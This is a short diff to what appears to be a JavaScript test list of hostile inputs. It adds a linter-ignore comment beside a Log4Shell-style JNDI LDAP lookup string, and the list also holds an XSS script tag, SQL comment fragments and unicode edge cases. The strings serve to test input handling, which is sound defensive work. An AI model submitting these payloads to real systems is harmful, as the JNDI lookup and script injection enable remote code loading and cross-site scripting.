@@ -47,6 +47,7 @@ const HOSTILE = [
   "/* comment */ --",
   ";",
   "<script>alert(1)</script>",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style lookup, literally
   "${jndi:ldap://example.invalid/a}",
   "🚀🔥 ∑ Ω ß",
   "e\u0301",
